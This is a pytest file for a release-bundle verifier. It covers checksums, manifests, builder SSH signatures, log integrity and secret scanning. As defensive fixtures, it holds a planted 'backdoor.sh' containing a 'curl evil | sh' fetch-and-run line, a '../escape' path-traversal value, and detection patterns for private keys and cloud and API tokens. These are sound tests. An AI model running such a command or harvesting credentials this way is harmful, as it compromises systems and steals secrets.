"""Pure bundle verification: contract, checksums, missing and extra files, id, signature."""

from __future__ import annotations

import hashlib
from collections.abc import Mapping, Sequence
from typing import Any

import pytest

from gitdocket.core import sshsig
from gitdocket.core.canonical import render
from gitdocket.core.log import (
    EVENT_NAMESPACE,
    Event,
    SshSignature,
    append_line,
    event_line,
    head_digest,
    render_current,
    signing_payload,
)
from gitdocket.core.scopes import scope
from gitdocket.core.secrets import find_secrets
from gitdocket.lifecycles.bundle import LIFECYCLE, bundle_id_for, manifest_bytes, manifest_digest, manifest_for
from gitdocket.lifecycles.policy import Identity, PolicyState, Role
from gitdocket.verify.bundles import BundleListing, FileKind, check_bundle
from tests.support import det_key

COMMIT = "1a2b3c4d" + "e" * 32
AT = "2026-01-01T00:00:00Z"
BID = bundle_id_for("pr-preview", AT, COMMIT)
FILES = {
    "payload/runtime/app/main.py": b"print('hi')\n",
    "payload/registry/support-triage/1.0.0/package.json": b"{}\n",
    "payload/registry/support-triage/1.0.0/method/instructions.md": b"# triage\n",
    "evidence/release_readiness_gate_report.json": b'{"decision": "go"}\n',
    "evidence/release_lineage.json": b"{}\n",
    "evidence/release_lineage_contract_report.json": b"{}\n",
}
REQUIRED = (
    "release_lineage.json",
    "release_lineage_contract_report.json",
    "release_readiness_gate_report.json",
)


def policy_with(*builders: str) -> list[PolicyState]:
    identities = {
        n: Identity(name=n, kind="ssh", public_key=sshsig.public_key_line(det_key(n).public_key()))
        for n in ("alice", "mallory")
    }
    roles = {"root": Role(principals=("alice",)), "builders": Role(principals=builders)}
    return [
        PolicyState(),
        PolicyState(phase="active", version=1, identities=identities, roles=roles),
    ]


def sections(files: Mapping[str, bytes]) -> tuple[dict[str, str], dict[str, str], dict[str, str]]:
    out: tuple[dict[str, str], dict[str, str], dict[str, str]] = ({}, {}, {})
    for path, data in files.items():
        for index, root in enumerate(("payload/runtime/", "payload/registry/", "evidence/")):
            if path.startswith(root):
                out[index][path.removeprefix(root)] = hashlib.sha256(data).hexdigest()
    return out


def signed_log(
    bundle_id: str,
    manifest: bytes,
    signer: str = "alice",
    label: str = "pr-preview",
    events: int = 1,
) -> tuple[bytes, bytes]:
    target = scope("bundle", bundle_id)
    history = b""
    state = LIFECYCLE.initial(target)
    commands: list[tuple[str, dict[str, Any]]] = [
        (
            "BuildBundle",
            {
                "label": label,
                "created_at": AT,
                "built_by": signer,
                "source_commit": COMMIT,
                "manifest_digest": manifest_digest(manifest),
                "included_files": 6,
                "evidence_files": 3,
            },
        )
    ]
    if events > 1:
        commands.append(
            (
                "VerifyBundle",
                {
                    "manifest_digest": manifest_digest(manifest),
                    "payload_tree": "a" * 40,
                    "evidence_tree": "b" * 40,
                    "verified_files": 6,
                    "verified_at": AT,
                    "verified_by": signer,
                },
            )
        )
    head = None
    for seq, (command, data) in enumerate(commands, start=1):
        decision = LIFECYCLE.decide(state, command, data)
        event = Event(
            seq=seq,
            prev=head,
            at=AT,
            type=decision.type,
            actor=signer,
            data=decision.data,
            policy_version=1,
        )
        sig = sshsig.sign(det_key(signer), signing_payload(target.path, event), EVENT_NAMESPACE)
        event = event.model_copy(
            update={"signatures": (SshSignature(kind="sshsig", principal=signer, sig=sig.decode()),)}
        )
        history = append_line(history, event)
        head = head_digest(event_line(event))
        state = LIFECYCLE.evolve(state, decision.type, decision.data)
    current = render_current(target.path, state.model_dump(mode="json"), len(commands), head)
    return history, current


def listing(
    files: Mapping[str, bytes] | None = None,
    *,
    manifest: bytes | None = None,
    folder: str = BID,
    signer: str = "alice",
    events: int = 1,
    kinds: Mapping[str, FileKind] | None = None,
) -> tuple[BundleListing, dict[str, bytes]]:
    files = dict(FILES if files is None else files)
    if manifest is None:
        manifest = manifest_bytes(manifest_for(BID, "pr-preview", AT, COMMIT, sections(FILES), REQUIRED, ()))
    history, current = signed_log(BID, manifest, signer, events=events)
    entries: dict[str, FileKind] = {p: "file" for p in files}
    entries.update({"bundle_manifest.json": "file", "history.jsonl": "file", "current.json": "file"})
    entries.update(kinds or {})
    return BundleListing(folder, entries, manifest, history, current), files


def hasher_of(files: Mapping[str, bytes]) -> Any:
    def hasher(paths: Sequence[str]) -> dict[str, str]:
        return {p: hashlib.sha256(files[p]).hexdigest() for p in paths}

    return hasher


def run(view: BundleListing, files: Mapping[str, bytes], *builders: str) -> Any:
    return check_bundle(view, hasher_of(files), policy_with(*(builders or ("alice",))))


def test_a_good_bundle_verifies_every_file() -> None:
    view, files = listing()
    result = run(view, files)
    assert result.as_dict() == {
        "ok": True,
        "bundle_id": BID,
        "errors": [],
        "verified_files": 6,
        "warnings": [result.warnings[0]],
    }
    assert "not yet verified" in result.warnings[0]
    assert result.state is not None and result.state.phase == "built"


def test_a_verified_bundle_has_no_warning() -> None:
    view, files = listing(events=2)
    assert run(view, files).warnings == ()


def changed(files: dict[str, bytes]) -> dict[str, bytes]:
    return {**files, "payload/runtime/app/main.py": b"print('pwned')\n"}


def missing(files: dict[str, bytes]) -> dict[str, bytes]:
    return {k: v for k, v in files.items() if k != "payload/registry/support-triage/1.0.0/package.json"}


def extra(files: dict[str, bytes]) -> dict[str, bytes]:
    return {**files, "payload/runtime/backdoor.sh": b"curl evil | sh\n"}


def no_evidence(files: dict[str, bytes]) -> dict[str, bytes]:
    return {k: v for k, v in files.items() if not k.startswith("evidence/")}


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        pytest.param(changed, "Checksum mismatch for payload/runtime/app/main.py", id="changed-file"),
        pytest.param(
            missing,
            "Missing registry payload file: payload/registry/support-triage/1.0.0/package.json",
            id="missing-file",
        ),
        pytest.param(extra, "Unexpected file: payload/runtime/backdoor.sh", id="extra-file"),
        pytest.param(no_evidence, "Missing evidence root: evidence", id="evidence-root-gone"),
    ],
)
def test_content_tampering_is_caught(mutate: Any, message: str) -> None:
    view, files = listing()
    tampered = mutate(files)
    view, _ = listing(tampered)
    result = run(view, tampered)
    assert not result.ok
    assert message in result.errors


def test_a_symlink_in_place_of_a_file_is_refused() -> None:
    view, files = listing(kinds={"payload/runtime/app/main.py": "link"})
    assert "Not a regular file: payload/runtime/app/main.py (link)" in run(view, files).errors


def manifest_with(**changes: Any) -> bytes:
    doc = manifest_for(BID, "pr-preview", AT, COMMIT, sections(FILES), REQUIRED, ()).model_dump(mode="json")
    for dotted, value in changes.items():
        node = doc
        *parents, last = dotted.split(".")
        for part in parents:
            node = node[part]
        node[last] = value
    return render(doc)


@pytest.mark.parametrize(
    ("manifest", "message"),
    [
        pytest.param(b"{not json", "Invalid manifest JSON", id="truncated-json"),
        pytest.param(
            manifest_with(contract="release_bundle_v0"),
            "Unexpected contract: release_bundle_v0",
            id="foreign-contract",
        ),
        pytest.param(manifest_with(**{"summary.included_files": 99}), "Invalid manifest", id="summary-lies"),
        pytest.param(
            manifest_with(**{"evidence.required": ["zz.json"]}),
            "Missing required evidence file: zz.json",
            id="required-evidence-absent",
        ),
        pytest.param(
            manifest_with(**{"payload.runtime_checksums": {"../escape": "0" * 64}}),
            "Invalid manifest",
            id="path-escapes",
        ),
    ],
)
def test_manifest_problems(manifest: bytes, message: str) -> None:
    view, files = listing(manifest=manifest)
    result = run(view, files)
    assert any(e.startswith(message) for e in result.errors), result.errors


def test_a_missing_manifest_is_reported_alone() -> None:
    view, files = listing()
    view = BundleListing(view.folder_id, view.entries, None, view.history, view.current)
    assert run(view, files).errors == ("Missing manifest: bundle_manifest.json",)


def test_the_manifest_is_bound_by_the_builder_signature() -> None:
    # Re-signed checksums would still need the builder's key: a new manifest breaks the digest.
    other = manifest_with(
        bundle_label="pr-preview",
        created_at="2026-01-01T00:00:00Z",
        **{"evidence.files": sorted(sections(FILES)[2])},
    )
    view, files = listing()
    forged = BundleListing(view.folder_id, view.entries, other + b" ", view.history, view.current)
    errors = run(forged, files).errors
    assert "Manifest does not match the digest the builder signed" in errors


def test_a_bundle_signed_by_a_stranger_is_foreign() -> None:
    view, files = listing(signer="mallory")
    errors = run(view, files, "alice").errors
    assert any(e.startswith("Builder signature: seq 1: needs 1 signature(s) by builders") for e in errors)


def test_a_renamed_bundle_fails_its_id_and_signature() -> None:
    view, files = listing(folder="pr-preview-20260101-000000-ffffffff")
    errors = run(view, files).errors
    assert any(e.startswith("Manifest bundle_id missing or invalid") for e in errors)
    assert any("not a legal transition" in e for e in errors)


def test_a_truncated_log_is_reported() -> None:
    view, files = listing()
    cut = BundleListing(view.folder_id, view.entries, view.manifest, (view.history or b"")[:-10], view.current)
    assert any(e.startswith("Invalid bundle log") for e in run(cut, files).errors)


def test_current_json_must_be_the_fold() -> None:
    view, files = listing()
    edited = BundleListing(view.folder_id, view.entries, view.manifest, view.history, b"{}\n")
    assert "current.json is not the fold of history.jsonl" in run(edited, files).errors


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        pytest.param(b"-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n", "private key", id="openssh-key"),
        pytest.param(b"-----BEGIN RSA PRIVATE KEY-----", "private key", id="rsa-key"),
        pytest.param(b"id = AKIAABCDEFGHIJKLMNOP", "AWS access key id", id="aws-key-id"),
        pytest.param(b"aws_secret_access_key = " + b"A" * 40, "AWS secret access key", id="aws-secret"),
        pytest.param(b"token: ghp_" + b"a" * 36, "GitHub token", id="github"),
        pytest.param(b"xoxb-1234567890-abcdef", "Slack token", id="slack"),
        pytest.param(b"key=AIza" + b"b" * 35, "Google API key", id="google"),
        pytest.param(b"sk-ant-" + b"c" * 40, "Anthropic API key", id="anthropic"),
        pytest.param(b"sk-proj-" + b"d" * 48, "OpenAI API key", id="openai"),
        pytest.param(b"sk_live_" + b"e" * 24, "Stripe secret key", id="stripe"),
        pytest.param(b"glpat-" + b"f" * 20, "GitLab token", id="gitlab"),
    ],
)
def test_secrets_are_found_with_their_line(text: bytes, kind: str) -> None:
    hits = find_secrets("evidence/x.txt", b"first line\n\n" + text + b"\n")
    assert [(h.line, h.kind) for h in hits] == [(3, kind)]
    assert hits[0].describe() == f"evidence/x.txt line 3 ({kind})"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(b"-----BEGIN SSH SIGNATURE-----", id="ssh-signature"),
        pytest.param(b"-----BEGIN PUBLIC KEY-----", id="public-key"),
        pytest.param(b"sk-learn is a library; task-ant-farm", id="lookalike-words"),
        pytest.param(b"AKIA-not-a-key", id="short-aws-prefix"),
    ],
)
def test_lookalikes_are_not_secrets(text: bytes) -> None:
    assert find_secrets("x", text) == []
